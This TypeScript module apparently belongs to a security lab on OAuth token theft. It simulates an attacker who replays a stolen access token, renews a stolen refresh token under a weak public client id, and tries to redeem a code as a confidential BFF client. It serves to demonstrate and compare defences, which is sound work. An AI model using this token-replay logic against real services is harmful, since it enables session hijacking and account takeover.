import { type LabSettings, weakClientId } from '../environment.ts';
import { parsed, recordOf, textOf } from '../http.ts';
import { type ApiAnswer, type Finding, type Loot, shownTokens } from './findings.ts';

/** Calls the API with a stolen access token, from the attacker's machine. */
export async function callApi({ api }: LabSettings, accessToken: string): Promise<ApiAnswer> {
  const answer = await fetch(`${api}/api/me`, { headers: { authorization: `Bearer ${accessToken}` } });
  const { claims } = parsed(await answer.text());
  return { status: answer.status, name: answer.ok ? textOf(recordOf(claims).name) : null };
}

/**
 * What the attacker does when the victim is gone: whatever was stolen before is all there is.
 *
 * @returns what came of it, and what there is to keep
 */
export async function useLoot(
  settings: LabSettings,
  { accessToken, refreshToken }: Loot,
): Promise<{ readonly finding: Finding; readonly loot: Loot }> {
  if (refreshToken === undefined) {
    if (accessToken === undefined) return { finding: { what: 'no-loot' }, loot: {} };
    const answer = await callApi(settings, accessToken);
    return {
      finding: { what: 'tokens', way: 'call', tokens: shownTokens({ accessToken }), answer },
      loot: {},
    };
  }
  const { status, ok, body } = await askForTokens(settings, {
    grant_type: 'refresh_token',
    client_id: weakClientId,
    refresh_token: refreshToken,
  });
  if (!ok) return { finding: { what: 'renewal-refused', status, error: textOf(body.error) }, loot: {} };
  const loot = { accessToken: textOf(body.access_token), refreshToken: textOf(body.refresh_token) };
  const answer = await callApi(settings, loot.accessToken);
  return { finding: { what: 'renewed', tokens: shownTokens(loot), answer }, loot };
}

/** Tries to redeem a code as the BFF, whose secret nobody outside of it has. */
export async function redeemAsBff(settings: LabSettings): Promise<Finding> {
  const { status, body } = await askForTokens(settings, {
    grant_type: 'authorization_code',
    client_id: 'coatcheck',
    code: 'a-code-from-a-hidden-frame',
    code_verifier: 'a-verifier-of-the-attacker-that-is-long-enough',
    redirect_uri: `${settings.app}/bff/callback/demo`,
  });
  return { what: 'code-refused', status, error: textOf(body.error) };
}

async function askForTokens({ issuer }: LabSettings, parameters: Record<string, string>) {
  const answer = await fetch(`${issuer}/token`, { method: 'POST', body: new URLSearchParams(parameters) });
  return { status: answer.status, ok: answer.ok, body: parsed(await answer.text()) };
}
